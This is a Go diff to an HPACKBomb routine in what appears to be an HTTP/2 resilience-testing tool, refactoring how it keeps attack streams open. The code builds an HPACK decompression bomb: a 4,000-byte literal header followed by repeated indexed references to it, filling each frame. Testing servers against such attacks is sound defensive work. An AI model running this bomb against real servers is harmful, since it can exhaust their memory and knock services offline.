@@ -66,54 +66,20 @@ func HPACKBomb(ctx context.Context, tg Target, o Options) Report {
 		if err := c.handshake(); err != nil {
 			return err
 		}
-		// tokens holds a token per bomb that may be sent: filled at
-		// first, then one per stream answered; never more than
-		// bombsInFlight, as a stream is answered once.
-		tokens := make(chan struct{}, bombsInFlight)
-		for range bombsInFlight {
-			tokens <- struct{}{}
-		}
-		open := map[uint32]bool{} // guarded by c.mu
 		end, stop := c.begin(ctx, o.Duration)
 		defer stop()
-		c.goRead(func(_ http2.Frame, id uint32) {
+		// At most bombsInFlight unanswered at once.
+		c.keepOpen(ctx, end, bombsInFlight, func(id uint32) error {
+			c.nextID += 2
 			c.mu.Lock()
-			was := open[id]
-			delete(open, id)
+			c.res.Streams++
 			c.mu.Unlock()
-			if was {
-				tokens <- struct{}{}
+			block := appendLiteral(c.headerBlock("GET", c.tg.SmallPath), 0x40, "x-bomb", strings.Repeat("b", 4000))
+			for len(block) < maxFrame {
+				block = append(block, 0x80|62) // indexed: the newest dynamic entry
 			}
+			return c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
 		})
-		deadline := time.NewTimer(time.Until(end))
-		defer deadline.Stop()
-		for range maxStreamsOpened {
-			select {
-			case <-tokens:
-			case <-c.closed:
-				return nil
-			case <-ctx.Done():
-				return nil
-			case <-deadline.C:
-				return nil
-			}
-			err := c.writeLocked(func() error {
-				id := c.nextID
-				c.nextID += 2
-				c.mu.Lock()
-				open[id] = true
-				c.res.Streams++
-				c.mu.Unlock()
-				block := appendLiteral(c.headerBlock("GET", c.tg.SmallPath), 0x40, "x-bomb", strings.Repeat("b", 4000))
-				for len(block) < maxFrame {
-					block = append(block, 0x80|62) // indexed: the newest dynamic entry
-				}
-				return c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
-			})
-			if err != nil {
-				return nil
-			}
-		}
 		return nil
 	})
 }
